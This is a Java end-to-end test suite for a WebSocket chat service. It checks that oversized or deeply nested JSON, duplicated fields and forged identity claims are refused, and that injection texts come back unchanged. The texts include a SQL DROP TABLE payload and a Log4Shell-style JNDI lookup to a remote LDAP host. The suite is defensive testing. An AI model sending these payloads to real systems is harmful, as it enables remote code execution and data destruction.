package dev.parley.e2e;

import static java.util.Objects.requireNonNull;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import com.fasterxml.jackson.databind.JsonNode;
import dev.parley.local.LocalCloud;
import dev.parley.local.StartException;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// Frames that mean no good, through the gateway and everything behind it. [FramesTest] sends many
/// more, to the functions alone.
class HostileFramesTest {
  private static LocalCloud cloud;

  @BeforeAll
  static void start() throws StartException {
    cloud = TestCloud.start();
  }

  @AfterAll
  static void stop() {
    cloud.close();
  }

  private static TestClient connect(String query) {
    return TestClient.connect(cloud.webSocketUrl(), query);
  }

  /// A frame that a reader gives up has no `ref`, so each is counted by its code.
  @Test
  void whatIsDeepWideOrTooLongIsRefusedAndTheConnectionGoesOn() {
    String many =
        IntStream.range(0, 12_000).mapToObj(i -> "\"r\"").collect(Collectors.joining(","));
    String fields =
        IntStream.range(0, 8_000)
            .mapToObj(i -> "\"f" + i + "\":0")
            .collect(Collectors.joining(","));
    Map<String, String> codes = new LinkedHashMap<>();
    codes.put("[".repeat(60_000), "invalid_json");
    codes.put("[".repeat(60_000) + "]".repeat(60_000), "invalid_json");
    codes.put("{\"action\":".repeat(10_000) + "1" + "}".repeat(10_000), "invalid_json");
    codes.put(frame("join", "\"room\":" + "[".repeat(5_000) + "]".repeat(5_000)), "invalid_json");
    codes.put(frame("join", "\"room\":" + "[".repeat(500) + "]".repeat(500)), "invalid_room");
    codes.put(frame("ping", "\"rooms\":[" + many + "]"), "invalid_rooms");
    codes.put(frame("rooms", fields + ",\"cursor\":\"?\""), "invalid_cursor");
    codes.put(frame("rooms", "\"" + "n".repeat(60_000) + "\":1"), "invalid_json");
    codes.put(frame("history", "\"room\":\"wide\",\"limit\":" + "9".repeat(900)), "invalid_limit");
    codes.put(
        frame("history", "\"room\":\"wide\",\"limit\":" + "9".repeat(90_000)), "invalid_json");
    codes.put(frame("history", "\"room\":\"wide\",\"before\":1e999999999"), "invalid_before");
    codes.put(
        frame("sendMessage", "\"room\":\"wide\",\"message\":\"" + "x".repeat(120_000) + "\""),
        "invalid_message");
    codes.put(frame("sendMessage", "\"room\":\"wide\",\"message\":\"\\ud800\""), "invalid_message");
    try (TestClient mallory = connect("?name=Mallory&rooms=wide")) {
      codes.forEach(
          (frame, code) -> {
            long before = refusals(mallory, code);
            mallory.send(frame);
            mallory.await(_ -> refusals(mallory, code) > before);
          });

      JsonNode pong = mallory.request("ping", "\"rooms\":[\"wide\"]");
      assertEquals(0, pong.path("rooms").path("wide").asLong(-1), "nothing was said");
    }
  }

  private static String frame(String action, String fields) {
    return "{\"action\":\"%s\",%s}".formatted(action, fields);
  }

  private static long refusals(TestClient client, String code) {
    return client.received().stream().filter(e -> e.path("code").asText().equals(code)).count();
  }

  /// Whoever reads a frame takes the last of two fields with one name: the gateway that finds its
  /// route, and the function that checks and does what it asks.
  @Test
  void ofADoubledFieldTheLastCountsEverywhere() {
    try (TestClient mallory = connect("?name=Mallory&rooms=mine");
        TestClient ada = connect("?name=Ada&rooms=hers")) {
      mallory.send(
          "{\"action\":\"rooms\",\"action\":\"sendMessage\",\"room\":\"mine\",\"room\":\"hers\","
              + "\"message\":\"in\",\"ref\":\"x\",\"ref\":\"a\"}");
      JsonNode refused = mallory.await(e -> e.path("ref").asText().equals("a"));
      mallory.send(
          "{\"action\":\"sendMessage\",\"room\":\"hers\",\"room\":\"mine\",\"message\":\"out\","
              + "\"message\":\"mine\",\"ref\":\"b\"}");
      JsonNode sent = mallory.await(e -> e.path("ref").asText().equals("b"));
      JsonNode heard = mallory.awaitMessage("mine");
      ada.request("sendMessage", "\"room\":\"hers\",\"message\":\"only mine\"");
      ada.awaitMessage("only mine");

      assertEquals("not_a_member", refused.path("code").asText(), refused.toString());
      assertEquals("mine", sent.path("room").asText(), sent.toString());
      assertEquals(sent.path("timestamp"), heard.path("timestamp"));
      assertEquals(1, ada.messages("hers").size(), ada.received().toString());
    }
  }

  @Test
  void aFrameDoesNotSayWhoSpeaks() {
    try (TestClient ada = connect("?name=Ada&rooms=who");
        TestClient mallory = connect("?name=Mallory&rooms=who")) {
      String hers = ada.user();
      String claims =
          ("\"user\":\"%1$s\",\"identity\":{\"user\":\"%1$s\"},\"you\":{\"user\":\"%1$s\"},"
                  + "\"authorizer\":{\"user\":\"%1$s\"},\"requestContext\":{\"authorizer\":"
                  + "{\"user\":\"%1$s\"}},\"connectionId\":\"%2$s\",\"admin\":true,")
              .formatted(hers, TestCloud.connectionOf(cloud, "Ada"));

      JsonNode pong = mallory.request("ping", claims + "\"rooms\":[]");
      mallory.request("sendMessage", claims + "\"room\":\"who\",\"message\":\"as Ada\"");
      JsonNode heard = ada.awaitMessage("as Ada");
      mallory.request("quit", claims + "\"room\":\"who\"");
      JsonNode still = ada.request("sendMessage", "\"room\":\"who\",\"message\":\"here\"");

      assertNotEquals(hers, pong.path("you").path("user").asText());
      assertEquals(pong.path("you").path("user"), heard.path("user"));
      assertEquals("Mallory", heard.path("sender").asText());
      assertEquals("sent", still.path("type").asText(), still.toString());
    }
  }

  /// What DynamoDB, SQS, a log or a page could take for something else comes back as it was.
  @Test
  void aTextThatMeansSomethingToSomebodyElseIsAText() {
    try (TestClient ada = connect("?name=Ada&rooms=texts")) {
      for (String text :
          new String[] {
            ":now",
            "#allowance = :value OR attribute_exists(room_id)",
            "SET admin = :true",
            "'; DROP TABLE ChatMessages; --",
            "]]></Message><x>&amp;&#0;",
            "${jndi:ldap://192.0.2.1/a} %s {}",
            "line\\u2028one\\r\\n{\\\"level\\\":\\\"ERROR\\\"}",
            "x\\u0000\\u0007\\ufffe\\uffff",
          }) {
        JsonNode sent =
            ada.request("sendMessage", "\"room\":\"texts\",\"message\":\"" + text + "\"");
        assertEquals("sent", sent.path("type").asText(), sent.toString());

        JsonNode event =
            ada.await(
                e ->
                    e.path("timestamp").equals(sent.path("timestamp"))
                        && e.path("type").asText().equals("message"));
        JsonNode page = ada.request("history", "\"room\":\"texts\",\"limit\":1");

        String said = requireNonNull(FrameWorld.json("\"" + text + "\"")).asText();
        assertEquals(said, event.path("message").asText());
        assertEquals(said, page.path("messages").path(0).path("message").asText());
      }
    }
  }
}
